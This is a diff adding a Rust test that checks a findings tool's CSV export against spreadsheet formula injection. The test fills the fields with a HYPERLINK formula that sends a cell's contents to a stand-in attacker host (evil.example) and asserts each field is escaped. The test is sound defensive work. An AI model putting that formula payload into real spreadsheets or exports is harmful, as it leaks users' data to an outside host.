@@ -372,6 +372,30 @@ fn the_engine_finds_nothing_in_a_report_of_what_it_found() {
 }
 
 #[test]
+fn no_field_of_the_table_is_a_formula() {
+    let formula = || "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")".to_owned();
+    let mut finding = finding("nl-bsn", Severity::Low, &formula(), 1);
+    finding.location.part = Some(formula());
+    finding.detector = formula();
+    finding.title = formula();
+    finding.evidence = formula();
+    finding.article = "+31 6".to_owned();
+    finding.reason = Some(formula());
+    finding.fingerprint = formula();
+    finding.commit = Some("-1".to_owned());
+    let table = crate::csv(&[finding]).unwrap();
+    let mut rows = csv::Reader::from_reader(table.as_slice());
+    let row = rows.records().next().unwrap().unwrap();
+    let guarded = row.iter().filter(|field| field.starts_with('\'')).count();
+    assert_eq!(guarded, 9, "{row:?}");
+    assert!(
+        !row.iter()
+            .any(|field| field.starts_with(['=', '+', '-', '@'])),
+        "{row:?}"
+    );
+}
+
+#[test]
 fn of_very_many_findings_the_worst_are_listed_and_the_rest_is_told() {
     let many: Vec<_> = (0..20_000)
         .map(|n| {
